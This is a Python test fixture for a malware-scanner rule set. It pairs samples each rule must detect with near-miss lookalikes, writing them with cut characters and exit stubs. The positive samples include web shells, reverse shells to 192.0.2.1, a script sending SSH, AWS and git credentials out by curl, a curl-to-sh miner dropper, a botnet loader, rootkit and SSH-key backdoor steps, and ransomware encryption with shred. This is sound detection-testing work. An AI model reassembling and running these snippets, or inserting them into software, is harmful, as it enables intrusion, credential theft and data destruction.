# SPDX-License-Identifier: Apache-2.0
"""What the base rules must find, and what lies next to it that they must not.

Every text has cuts (¦) in the places that a rule looks for; they are taken out when a sample is made, in a folder
that goes away again. So no scanner, ours included, finds anything in this file. None of the samples does anything:
scripts end before their first step, programs have a header and no segment, and the addresses are reserved for
documentation (RFC 5737, RFC 2606).
"""
import base64
import struct

STOP = {"php": "<?php exit(0);\n", "sh": "#!/bin/sh\nexit 0\n", "py": "#!/usr/bin/python3\nraise SystemExit\n",
        "pl": "#!/usr/bin/perl\nexit;\n", "jsp": "<% if (true) return; %>\n", "rb": "#!/usr/bin/ruby\nexit\n",
        "aspx": '<%@ Page Language="C#" %>\n<% Response.End(); %>\n', "js": "process.exit(0);\n"}


def join(text):
    return text.replace("¦", "")


def script(kind, text):
    return (STOP[kind] + join(text) + "\n").encode()


def elf(*texts, kind=2, bits=64, sections=1, raw=b"", size=0):
    """A header, and texts as a string table has them. No program header: the kernel refuses to run it."""
    machine, word = (62, "Q") if bits == 64 else (3, "I")
    ident = b"\x7fELF" + bytes([2 if bits == 64 else 1, 1, 1]) + bytes(9)
    head = struct.pack(f"<HHI{word}{word}{word}IHHHHHH", kind, machine, 1, 0, 0, 0, 0,
                       64 if bits == 64 else 52, 0, 0, 64, sections, 0)
    body = b"\0" + b"\0".join(join(t).encode() for t in texts) + b"\0"
    return (ident + head + body + raw).ljust(size, b"\0")


def upx(*, bits=64, mark=b"UP" + b"X!", sizes=True, grows=True, unpacked=None, method=2, linked=False):
    """As UPX leaves a program: two segments, what is unpacked into the second; then what its loader reads."""
    head, row, word = (64, 56, "Q") if bits == 64 else (52, 32, "I")
    loads = [(1, 5, 0, 3000, 3000), (1, 6, 0, 0, 90000 if grows else 0)] + ([(2, 6, 0, 0, 0)] if linked else [])

    def program(kind, flags, offset, in_file, in_memory):
        if bits == 64:
            return struct.pack("<IIQQQQQQ", kind, flags, offset, 0, 0, in_file, in_memory, 4096)
        return struct.pack("<IIIIIIII", kind, offset, 0, 0, in_file, in_memory, flags, 4096)

    ident = b"\x7fELF" + bytes([2 if bits == 64 else 1, 1, 1]) + bytes(9)
    header = struct.pack(f"<HHI{word}{word}{word}IHHHHHH", 2, 62 if bits == 64 else 3, 1, 0x401000, head, 0, 0,
                         head, row, len(loads), 64, 0, 0)
    info = struct.pack("<I4sHBB", 0x12345678, mark, 2000, 13, 22)
    info += struct.pack("<III", 0, 90000 if sizes else 0, 90000 if sizes else 0)
    info += struct.pack("<IIBBBB", unpacked if unpacked is not None else head + 9 * row, 200, method, 0, 0, 0)
    return (ident + header + b"".join(program(*s) for s in loads) + info + bytes(range(256)) * 12)[:3000]


def xored(text, key):
    return bytes(b ^ key for b in join(text).encode())


BLOB = base64.b64encode(bytes(range(96))).decode()
KEY = "AAAA" + base64.b64encode(bytes(range(60))).decode()
ONION = "abcdefgh234567yz" * 3 + "abcdefgh"
CALLS64 = (b"\x6a\x29\x58\x99\x0f\x05", b"\x6a\x2a\x58\x0f\x05", b"\x6a\x21\x58\x0f\x05", b"\x6a\x3b\x58\x99\x0f\x05")
CALLS32 = (b"\x6a\x66\x58\xcd\x80", b"\xb0\x3f\xcd\x80", b"\xb0\x0b\xcd\x80")
EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$¦EICAR-STANDARD-ANTI¦VIRUS-TEST-FILE!$H+H*"

# rule: (what it must find), (what it must not)
SAMPLES = {
    "Custos_PHP_Request_To_Code": (
        [script("php", "@ev¦al($_PO¦ST['x']);"),
         script("php", "as¦sert( base64_¦decode(@$_REQ¦UEST[\"a\"]) );"),
         b"<html><?= " + join("ev¦al(strip¦slashes($_COO¦KIE[0]))").encode() + b" ?>"],
        [script("php", "$x = intval($_POST['x']); assert($x > 0);"),
         script("php", "my_eval_form($_POST['x']); // evaluate($_GET['y'])"),
         b"A text about ev" + b"al($_PO" + b"ST['x']) that is no program."]),
    "Custos_PHP_Request_To_Command": (
        [script("php", "echo sys¦tem($_GE¦T['c'].' 2>&1');"),
         script("php", "pass¦thru(base64_¦decode($_SER¦VER['HTTP_X']));"),
         script("php", "echo ¦`{$_GE¦T['c']}`;")],
        [script("php", "exec(escapeshellarg($_GET['c']));"),
         script("php", "shell_exec($_SERVER['SCRIPT_FILENAME']); proc_¦open($_SERVER['SHELL'], [], $p);"),
         script("php", "$db->exec('DELETE FROM t'); $system = $_GET['system'];"),
         script("php", "$q = \"SELECT `$_GET[column]` FROM t\";"),
         script("php", "curl_exec($c); pg_exec($db, $_POST['q']);")]),
    "Custos_PHP_Request_As_Function": (
        [script("php", "$_GE¦T['f']($_PO¦ST['a']);"),
         script("php", "call_¦user_func($_REQ¦UEST['f'], $_REQ¦UEST['a']);")],
        [script("php", "call_user_func($callback, $_POST['a']);"),
         script("php", "$a = $_GET['f'] . ($_POST['a'] ?? ''); array_filter($_POST['list']);")]),
    "Custos_PHP_Regex_To_Code": (
        [script("php", "preg_¦replace('/.*/e', $_PO¦ST['x'], '');"),
         script("php", "preg_¦replace(\"#x#ie\", 'ev¦al(1)', $s);")],
        [script("php", "preg_replace('/e/i', $_POST['x'], $s);"),
         script("php", "preg_replace('/.*/', 'evaluation', $s); preg_replace('/[a-z]+/e', $map, $s);")]),
    "Custos_PHP_Unpacked_To_Code": (
        [script("php", f"ev¦al(gzin¦flate(base64_¦decode('{BLOB}')));"),
         script("php", f"@ev¦al('?>'.gzun¦compress(str_¦rot13(base64_¦decode(\"{BLOB}\"))));")],
        [script("php", f"$data = gzinflate(base64_decode('{BLOB}')); evaluate($data);"),
         script("php", "ev" + "al(gzin" + "flate(base64_decode($cached)));")]),
    "Custos_PHP_Decoded_To_Code": (
        [script("php", f"ev¦al(base64_¦decode('{BLOB}'));")],
        [script("php", f"$x = base64_decode('{BLOB}');"), script("php", "ev" + "al(base64_decode('short'));")]),
    "Custos_PHP_Request_To_File": (
        [script("php", "file_put_¦contents($_GE¦T['f'], base64_¦decode($_PO¦ST['d']));"),
         script("php", "fwr¦ite(fo¦pen($_PO¦ST['f'], 'w'), $_PO¦ST['d']);")],
        [script("php", "file_put_contents($log, $_POST['d']);"),
         script("php", "file_put_contents($_GET['f'], $data); fwrite($f, $_POST['d']);")]),
    "Custos_PHP_Bare_Upload": (
        [script("php", "move_¦uploaded_file($_FI¦LES['f']['tmp¦_name'], './' . $_FI¦LES['f']['na¦me']);")],
        [script("php", "if (!in_array(pathinfo($n, PATHINFO_EXTENSION), $ok)) die();\n"
                       "move_uploaded_file($_FILES['f']['tmp_name'], 'up/' . $_FILES['f']['name']);"),
         script("php", "move_uploaded_file($_FILES['f']['tmp_name'], $target);")]),
    "Custos_PHP_In_Image": (
        [b"GIF89a" + bytes(20) + join("<?p¦hp exit; inc¦lude($_GE¦T['f']); ?>").encode(),
         b"\xff\xd8\xff\xe1" + bytes(40) + join("<?p¦hp exit; $f = 'x'; $f($_PO¦ST['a']); ex¦ec($f); ?>").encode()],
        [b"GIF89a" + bytes(20) + b"a comment that says <?php and nothing else",
         b"BM is how this text begins. <?php include($_GET['f']); ?>"]),
    "Custos_PHP_Console": (
        [script("php", "$d = ini_¦get('disable_¦functions'); echo php_¦uname(), posix_¦geteuid();\n"
                       "$c = $_PO¦ST['c']; pass¦thru($c); shell_¦exec($c); sys¦tem($c); po¦pen($c, 'r');")],
        [script("php", "if (!function_exists('proc_¦open')) throw new E(php_uname());\n$p = proc_¦open($cmd, $d, $pipes);"),
         script("php", "echo ini_get('disable_functions'), php_uname(), posix_geteuid(), $_GET['a'];")]),
    "Custos_JSP_Request_To_Command": (
        [script("jsp", "<% Runtime.get¦Runtime().ex¦ec(req¦uest.getPara¦meter(\"x\")); %>"),
         script("jsp", "<% new Process¦Builder(\"sh\", \"-c\", req¦uest.getPara¦meter(\"x\")).start(); %>")],
        [script("jsp", "<% String n = request.getParameter(\"x\"); Runtime.getRuntime().exec(\"/bin/true\"); %>"),
         script("jsp", "<% Runtime.getRuntime().gc(); out.print(request.getParameter(\"x\")); %>")]),
    "Custos_JSP_Command_Page": (
        [script("jsp", "<% String c = req¦uest.getPara¦meter(\"cm¦d\");\nProcess p = Runtime.get¦Runtime().ex¦ec(c);\n"
                       "InputStream in = p.get¦InputStream(); %>")],
        [script("jsp", "<% String c = request.getParameter(\"id\");\nProcess p = Runtime.getRuntime().exec(\"date\");\n"
                       "InputStream in = p.get¦InputStream(); %>")]),
    "Custos_JSP_Request_To_Class": (
        [script("jsp", "<%! class U extends Class¦Loader { Class g(byte[] b) { return define¦Class(b, 0, b.length); } } %>\n"
                       "<% byte[] b = java.util.Base¦64.get¦Decoder().decode(req¦uest.getPara¦meter(\"p\")); %>")],
        [script("jsp", "<% byte[] b = java.util.Base64.getDecoder().decode(request.getParameter(\"p\")); out.print(b); %>"),
         script("jsp", "<%! class U extends ClassLoader { } %><% out.print(request.getParameter(\"p\")); %>")]),
    "Custos_JSP_Request_To_File": (
        [script("jsp", "<% new java.io.File¦OutputStream(req¦uest.getPara¦meter(\"f\"))"
                       ".wri¦te(req¦uest.getPara¦meter(\"t\").getBytes()); %>")],
        [script("jsp", "<% new java.io.FileOutputStream(log).write(request.getParameter(\"t\").getBytes()); %>")]),
    "Custos_ASPX_Request_To_Code": (
        [script("aspx", "<% ev¦al(Req¦uest.Item[\"x\"], \"uns¦afe\"); %>"),
         join("<% exit %><%ex¦ecute req¦uest(\"x\")%>").encode()],
        [script("aspx", "<%# Eval(\"Name\") %> <%= Request.Form[\"x\"] %>"),
         b"<% Response.Write request(\"x\") %>"]),
    "Custos_ASPX_Request_To_Command": (
        [script("aspx", "<% var p = new Process¦StartInfo(\"cm¦d.exe\", \"/c \" + Req¦uest.Form[\"c\"]);\n"
                        "Response.Write(Process.Start(p).Standard¦Output.ReadToEnd()); %>")],
        [script("aspx", "<% var p = new ProcessStartInfo(\"report.exe\", Request.Form[\"id\"]);\n"
                        "Response.Write(Process.Start(p).StandardOutput.ReadToEnd()); %>"),
         script("aspx", "<% Response.Write(\"cmd.exe \" + Request.Form[\"c\"]); %>")]),
    "Custos_ASPX_Request_To_Assembly": (
        [script("aspx", "<% byte[] b = Req¦uest.Binary¦Read(Request.ContentLength);\n"
                        "Ass¦embly.Lo¦ad(b).Create¦Instance(\"U\"); %>")],
        [script("aspx", "<% Assem¦bly.Load(\"Site.Plugins\").CreateInstance(\"U\"); %>"),
         script("aspx", "<% byte[] b = Request.BinaryRead(Request.ContentLength); Save(b); %>")]),
    "Custos_Python_Request_To_Command": (
        [script("py", "import os\nos.po¦pen(req¦uest.args.get('c')).read()"),
         script("py", "import cgi, os\nform = cgi.FieldStorage()\nos.sys¦tem(form.get¦value('c'))"),
         script("py", "from flask import request\nex¦ec(base64.b64¦decode(req¦uest.form['c']))")],
        [script("py", "import os\nname = request.args.get('c')\nos.popen('date')"),
         script("py", "from django.db import models\nself.eval(request); execute(request.GET)"),
         script("py", "import os\ncode = io.StringIO()\nexec(code.getvalue(), names)"),
         b"How not to do it: os.po" + b"pen(req" + b"uest.args['c'])"]),
    "Custos_Python_Command_Page": (
        [script("py", "import cgi, os\nc = cgi.Field¦Storage().get¦value('cm¦d')\nprint(os.po¦pen(c).read())")],
        [script("py", "import cgi, os\nc = cgi.FieldStorage().getvalue('name')\nprint(os.popen('date').read(), c)")]),
    "Custos_Perl_Request_To_Command": (
        [script("pl", "use CGI; my $q = new CGI; sys¦tem($q->par¦am('c'));"),
         script("pl", "print ¦`$ENV{QUERY_¦STRING}`;"),
         script("pl", "my $r = qx¦{@{[ $q->par¦am('c') ]}};")],
        [script("pl", "use CGI; my $c = $q->param('c'); system('date');"),
         script("pl", "print $ENV{QUERY_STRING}; my $r = eval { $q->param('c') };"),
         b"sys" + b"tem($q->par" + b"am('c')) in a text that is no script"]),
    "Custos_Shell_Dev_TCP": (
        [script("sh", "ba¦sh -i >& /dev/t¦cp/192.0.2.1/4444 0>&1"),
         script("sh", "ex¦ec 5<>/dev/t¦cp/192.0.2.1/4444; cat <&5 | while re¦ad line; do $line 2>&5 >&5; done"),
         join("* * * * * ba¦sh -i >& /dev/t¦cp/192.0.2.1/80 0>&1\n").encode()],
        [script("sh", "exec 3<>/dev/tcp/192.0.2.1/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3"),
         script("sh", "timeout 1 bash -c '</dev/tcp/127.0.0.1/5432' || exit 1"),
         script("sh", "while read -r line; do echo \"$line\" >&2; done; bash -i >/dev/null")]),
    "Custos_Shell_Pipe": (
        [script("sh", "rm /tmp/f; mk¦fifo /tmp/f; cat /tmp/f | /bin/s¦h -i 2>&1 | n¦c 192.0.2.1 4444 >/tmp/f")],
        [script("sh", "mkfifo /tmp/f; tar c . | nc 192.0.2.1 4444 & cat /tmp/f"),
         script("sh", "mkfifo $dir/f; sh -i 2>&1 | tee log")]),
    "Custos_Shell_Netcat": (
        [script("sh", "n¦c -l -p 4444 -e¦ /bin/s¦h"), script("sh", "nc¦at --ss¦l 192.0.2.1 4444 -e¦ /bin/ba¦sh"),
         script("sh", "soc¦at tcp:192.0.2.1:4444 ex¦ec:'/bin/ba¦sh',pty,stderr")],
        [script("sh", "nc -z -w 5 192.0.2.1 4444 && /bin/sh ./next"),
         script("sh", "socat tcp-listen:80,fork exec:/usr/lib/gateway,stderr"),
         script("sh", "sync -e /bin/shells")]),
    "Custos_Shell_Python": (
        [script("py", "import socket, os, pty\ns = sock¦et.sock¦et(); s.con¦nect(('192.0.2.1', 4444))\n"
                      "os.du¦p2(s.fil¦eno(), 0); pty.sp¦awn('/bin/s¦h')")],
        [script("py", "import socket, os\ns = socket.socket(); s.connect(('192.0.2.1', 80))\n"
                      "os.dup2(log.fileno(), sys.stdout.fileno()); subprocess.call(['/bin/sh', 'x'])"),
         script("py", "import pty\npty.spawn('/bin/sh')")]),
    "Custos_Shell_Perl": (
        [script("pl", "use Socket; sock¦et(S, PF¦_INET, SOCK_STREAM, 0); con¦nect(S, $a);\n"
                      "op¦en(STD¦IN, \">&S\"); ex¦ec(\"/bin/s¦h -i\");")],
        [script("pl", "use IO::Socket::INET; open(STDIN, '</dev/null'); exec('/usr/sbin/daemon');"),
         script("pl", "open(STDIN, \"<&\", $fh); exec(\"/bin/sh\", $script);")]),
    "Custos_Shell_PHP": (
        [script("php", "$s = fsock¦open('192.0.2.1', 4444); ex¦ec('/bin/s¦h -i <&3 >¦&3 2>¦&3');"),
         script("php", "$s = fsock¦open($h, $p); $x = 'uname -a; w; id; /bin/s¦h -i';\n$p = proc_¦open($x, $d, $pipes);")],
        [script("php", "$s = fsockopen('192.0.2.1', 80); $p = proc_¦open('/bin/sh', $d, $pipes);"),
         script("php", "$s = fsockopen('192.0.2.1', 25); exec('sendmail -i <mail');")]),
    "Custos_Shell_Node": (
        [script("js", "const net = req¦uire('net'), sh = req¦uire('child_process').sp¦awn('/bin/s¦h', []);\n"
                      "const c = new net.Socket(); c.con¦nect(4444, '192.0.2.1', () => {\n"
                      "c.pi¦pe(sh.std¦in); sh.std¦out.pi¦pe(c); });")],
        [script("js", "const net = require('net'); const p = require('child_process').spawn('node', ['x']);\n"
                      "c.connect(80); p.stdout.pipe(process.stdout); c.pipe(p.stdin);")]),
    "Custos_Shell_Ruby": (
        [script("rb", "require 'socket'\nf = TCP¦Socket.op¦en('192.0.2.1', 4444).to_i\nex¦ec spr¦intf('/bin/s¦h -i <&%d >&%d', f, f)")],
        [script("rb", "require 'socket'\nf = TCPSocket.open('192.0.2.1', 80)\nexec '/bin/sh -i'\nf.puts 'x'")]),
    "Custos_Shell_ELF_Syscalls": (
        [elf("/bin/¦sh", raw=b"".join(CALLS64)), elf("/bin/¦sh", bits=32, raw=b"".join(CALLS32))],
        [elf("/bin/¦sh", raw=b"".join(CALLS64[:3])), elf("/bin/¦sh", raw=b"".join(CALLS64), size=8192),
         elf("/bin/date", raw=b"".join(CALLS64))]),
    "Custos_Shell_ELF_Small": (
        [elf("soc¦ket", "", "con¦nect", "", "du¦p2", "", "exec¦ve", "", "inet_¦addr", "", "/bin/¦sh", "")],
        [elf("socket", "", "connect", "", "dup2", "", "execve", "", "inet_addr", "", "/bin/sh", "", "getopt_long"),
         elf("socket", "", "connect", "", "dup2", "", "execve", "", "inet_addr", "")]),
    "Custos_Miner_Program": (
        [elf("strat¦um+tcp://", "mining.¦subscribe", "mining.¦submit", "crypto¦night", "rand¦omx")],
        [elf("stratum+tcp://", "mining.subscribe"), elf("a wallet: cryptonight, randomx, \"job_id\", mining.submit")]),
    "Custos_Miner_Configuration": (
        [join('{ "cpu": {}, "donate-¦level": 1, "po¦ols": [ { "url": "pool.example.org:3333", "user": "x" } ] }').encode()],
        [b'{ "pools": [ { "url": "db.example.org:5432", "user": "x" } ], "cpu": 2 }']),
    "Custos_Miner_Script": (
        [script("sh", "pki¦ll -f xm¦rig\nchat¦tr -i /etc/crontab\ncu¦rl -s http://192.0.2.1/x | s¦h\ncron¦tab -r")],
        [script("sh", "pkill -f node\ncurl -s https://example.org/install | sh\ncrontab -l | grep backup"),
         script("sh", "chattr -i /etc/resolv.conf\niptables -F\ncrontab -l | cat")]),
    "Custos_Rootkit_Preload_Library": (
        [elf("/etc/ld.so.¦preload", "", "dls¦ym", "", "read¦dir64", "", "lst¦at", "", "unli¦nkat", "",
             "/proc/¦net/tcp", "", kind=3)],
        [elf("/etc/ld.so.preload", "", "dlsym", "", "readdir64", "", "lstat", "", "unlinkat", "", kind=3),
         elf("dlsym", "", "readdir64", "", "lstat", "", "unlinkat", "", "/proc/net/tcp", "", kind=3)]),
    "Custos_Rootkit_Preload_Script": (
        [script("sh", "echo /lib/libx.so >¦> /etc/ld.so.¦preload\nchat¦tr +i /etc/ld.so.¦preload")],
        [script("sh", "echo /usr/lib/libjemalloc.so >> /etc/ld.so.preload"),
         script("sh", "chattr +i /etc/resolv.conf; cat /etc/ld.so.preload")]),
    "Custos_Rootkit_Kernel_Module": (
        [elf("verma¦gic=6.1.0", "", "kallsyms_¦lookup_name", "", "__x64_sys_¦getdents64", "", "tcp4_seq_¦show", "", kind=1),
         elf("verma¦gic=6.1.0", "", "register_¦kprobe", "", "__x64_sys_¦kill", "", "prepare_¦creds", "", "commit_¦creds", "", kind=1)],
        [elf("vermagic=6.1.0", "", "register_kprobe", "", "tcp4_seq_show", "", kind=1),
         elf("vermagic=6.1.0", "", "prepare_creds", "", "commit_creds", "", kind=1),
         elf("vermagic=6.1.0", "", "kallsyms_lookup_name", "", "__x64_sys_getdents64", "", "tcp4_seq_show", "", kind=3)]),
    "Custos_Rootkit_Kernel_Source": (
        [join("module_¦init(start);\nlist_¦del(&THIS_¦MODULE->list);\np = kallsyms_¦lookup_name(\"x\");\n").encode()],
        [b"module_init(start);\nlist_del(&entry->list);\np = kallsyms_lookup_name(\"x\");\n"]),
    "Custos_Backdoor_PAM_Module": (
        [elf("pam_sm_¦authenticate", "pam_get_¦authtok", "", "fop¦en", "", "user=%s pass¦=%s", kind=3),
         elf("pam_sm_¦authenticate", "pam_get_¦item", "", "op¦en", "", "%s:¦%s\n", "", "/var/log/.¦cache", "", kind=3)],
        [elf("pam_sm_authenticate", "pam_get_authtok", "", "fopen", "", "user=%s", "password: ", kind=3),
         elf("pam_sm_authenticate", "pam_get_item", "", "open", "", "%s:%s", "", "/var/log/faillog", "", kind=3),
         elf("pam_get_authtok", "", "fopen", "", "user=%s pass=%s")]),
    "Custos_Backdoor_PAM_Configuration": (
        [join("auth optional pam_ex¦ec.so quiet expose_¦authtok /tm¦p/x.sh\n").encode(),
         join("@include common-auth\nauth sufficient pam_ex¦ec.so expose_¦authtok /usr/lib/.¦x\n").encode()],
        [b"auth optional pam_exec.so expose_authtok /usr/local/sbin/unlock-home\n",
         b"session optional pam_exec.so /tmp/x.sh\n"]),
    "Custos_Backdoor_SSH_Program": (
        [elf("Open¦SSH_9.2p1", "authorized_¦keys", "", "/usr/include/.¦ssh.h", "", "user:%s pass¦word:%s\n")],
        [elf("OpenSSH_9.2p1", "authorized_keys", "", "/etc/ssh/sshd_config", "", "user:%s password:%s\n"),
         elf("OpenSSH_9.2p1", "authorized_keys", "", "/usr/include/.ssh.h", "")]),
    "Custos_Backdoor_SSH_Keys_Script": (
        [script("sh", f"echo 'ssh-¦rsa {KEY} x' >¦> ~/.ssh/authorized_¦keys\nchat¦tr +ai ~/.ssh/authorized_¦keys")],
        [script("sh", f"echo 'ssh-rsa {KEY} admin' >> ~admin/.ssh/authorized_keys\nchmod 600 ~admin/.ssh/authorized_keys")]),
    "Custos_Botnet_Hidden_Text": (
        [elf("x", raw=xored("/bin/¦busybox", 0x22)), elf("x", raw=xored("/bin/¦busybox", 0x54))],
        [elf("/bin/busybox"), xored("/bin/¦busybox", 0x22), elf("x", raw=xored("/bin/busymox", 0x22))]),
    "Custos_Botnet_Passwords": (
        [elf("xc3¦511", "viz¦xv", "juan¦tech", "xmh¦dipc", "hi3¦518")],
        [elf("xc3511", "vizxv", "juantech", "xmhdipc"), b"xc3511\nvizxv\njuantech\nxmhdipc\nhi3518\n"]),
    "Custos_Botnet_Floods": (
        [elf("udp¦flood", "syn¦flood", "http¦flood", "/dev/¦watchdog", "telnet¦d")],
        [elf("udpflood", "synflood", "usage: x --flood"), elf("/dev/watchdog", "telnetd", "udpflood", "/proc/net/route")]),
    "Custos_Botnet_Loader_Script": (
        [script("sh", "cd /tm¦p || cd /var/run || cd /\nfor a in x; do wg¦et http://192.0.2.1/b.mi¦ps; wg¦et http://192.0.2.1/b.ar¦m7\n"
                      "wg¦et http://192.0.2.1/b.sh¦4; chm¦od 777 b.mips; ./b.mips; done")],
        [script("sh", "cd /tmp && wget https://example.org/tool.arm7 && chmod +x tool.arm7 && ./tool.arm7"),
         script("sh", "cd /tmp || exit\nfor a in mips arm7 sh4; do wget https://example.org/t.$a; done")]),
    "Custos_Ransom_Machines": (
        [elf("esxcli vm process ¦kill --type=force", ".vm¦dk", ".vm¦em", ".vs¦wp", "enc¦rypted")],
        [elf("esxcli vm process list", ".vmdk", ".vmem", ".vswp", "encrypted"),
         elf("vm process kill", ".vmdk", "encrypted")]),
    "Custos_Ransom_Program": (
        [elf("All your files have been ¦encrypted", "Do not rename ¦the files", "download Tor ¦Browser", f"http://{ONION}.on¦ion/")],
        [elf("All your files are safe", "download Tor Browser", f"http://{ONION}.onion/"),
         elf("Do not rename the files", "decryption key", "send bitcoin to this address")]),
    "Custos_Ransom_Note": (
        [join(f"All your files have been ¦encrypted.\nDo not rename ¦any files.\nThe decryption ¦key costs 1 bit¦coin, see the "
              f"address at http://{ONION}.on¦ion/\nYour ¦ID: 1234\n").encode()],
        [b"All your files have been encrypted with the decryption key you chose. Do not rename the files.\n",
         b"Ransomware says that your files are encrypted and wants bitcoin sent to an address.\n"]),
    "Custos_Ransom_Script": (
        [script("sh", "fi¦nd /srv -type f | while read f; do open¦ssl enc -aes-256-cbc -in \"$f\" -out \"$f.x\"; shr¦ed -u \"$f\"; done\n"
                      "echo 'Your files are ¦encrypted' >/srv/README")],
        [script("sh", "find /srv -type f | while read f; do openssl enc -aes-256-cbc -in \"$f\" -out \"/backup/$f\"; done\n"
                      "echo 'Backup is encrypted'"),
         script("sh", "find /srv -exec cp {} /backup +\necho 'Your files are encrypted' | wall")]),
    "Custos_Stealer_Shell": (
        [script("sh", "cat ~/.aws/¦credentials ~/.ssh/id_¦rsa ~/.git-¦credentials ~/.kube/¦config >x\ncu¦rl -s -F ¦file=@x http://192.0.2.1/")],
        [script("sh", "tar c ~/.aws/credentials ~/.ssh/id_rsa ~/.git-credentials ~/.kube/config | age -r x >backup"),
         script("sh", "curl -s -F file=@report https://example.org/; test -f ~/.netrc")]),
    "Custos_Stealer_Python": (
        [script("py", "import os, requests\nfiles = ['logins.¦json', 'key4¦.db', 'wallet¦.dat']\n"
                      "requests.post('https://api.tele¦gram.org/bot1:x/sendDocument')")],
        [script("py", "import os, requests\nrequests.post('https://api.tele¦gram.org/bot1:x/sendMessage', data='disk full')"),
         script("py", "import os\nfiles = ['logins.json', 'key4.db', 'wallet.dat']\nbackup(files)")]),
    "Custos_Stealer_Memory": (
        [script("py", "import os\nfor who in ('gnome-keyring-¦daemon', 'gdm-¦password', 'sshd¦'):\n"
                      "  open(f'/proc/{pid}/ma¦ps'); open(f'/proc/{pid}/me¦m'); open('/etc/¦shadow')")],
        [script("py", "import os\nopen(f'/proc/{pid}/maps'); open(f'/proc/{pid}/mem')  # a debugger"),
         script("sh", "systemctl restart lightdm sshd gnome-keyring-daemon; cat /etc/shadow")]),
    "Custos_Stealer_Logins": (
        [script("sh", "str¦ace -f -e trace=¦read,write -o ¦/tmp/.l -p¦ $(pgr¦ep -o sshd)")],
        [script("sh", "strace -f -e trace=open -o /tmp/log -p $(pgrep -o nginx)"),
         script("sh", "strace -c -p $(pidof sshd)")]),
    "Custos_Packed_UPX": (
        [elf("x", raw=b"UP" + b"X!" + bytes(2000) + b"UP" + b"X!" + bytes(30)), upx(), upx(bits=32), upx(sizes=False)],
        [elf("x", raw=bytes(2000) + b"UPX!" + bytes(2000)), b"UPX!" + bytes(2000) + b"UPX!" + bytes(30)]),
    "Custos_Packed_UPX_Disguised": (
        [elf("PROT_EXEC|¦PROT_WRITE failed.", sections=0, size=2048), upx(mark=b"YTS!"), upx(mark=bytes(4), sizes=False),
         upx(bits=32, mark=bytes(4), method=14)],
        [elf("PROT_EXEC|PROT_WRITE failed.", sections=9, size=2048), upx(mark=b"YTS!", grows=False),
         upx(mark=b"YTS!", unpacked=64 + 9 * 56 + 1), upx(mark=b"YTS!", method=17), upx(mark=b"YTS!", linked=True)]),
    "Custos_Packed_Script_Program": (
        [script("sh", f"echo f0VM¦RgIBAQ{BLOB} | base64¦ -d >x; chm¦od +x x; ./x")],
        [script("sh", f"echo f0VMRgIBAQ{BLOB} | sha256sum"), script("sh", f"echo {BLOB} | base64 -d >x; chmod +x x")]),
    "Custos_Packed_Memory_Loader": (
        [script("py", "import os, urllib.request\nd = urllib.request.url¦open(u).read()\nf = os.memfd_¦create('x')\n"
                      "os.write(f, d)\nos.exec¦ve(f'/proc/self/¦fd/{f}', a, e)"),
         script("pl", "use MIME::Base¦64; my $f = sys¦call(319, $n, 1);\nex¦ec \"/proc/$$/f¦d/$f\";")],
        [script("py", "import os\nf = os.memfd_create('buffer')\nos.write(f, d)"),
         script("py", "import os, urllib.request\nd = urlopen(u).read()\nos.execv('/usr/bin/python3', a)")]),
    "Custos_Test_EICAR": (
        [join(EICAR).encode(), join(EICAR).encode() + b"\r\n"],
        [b"text before " + join(EICAR).encode(), join(EICAR).encode().ljust(129), join(EICAR).replace("STANDARD", "STANDERD").encode()]),
}
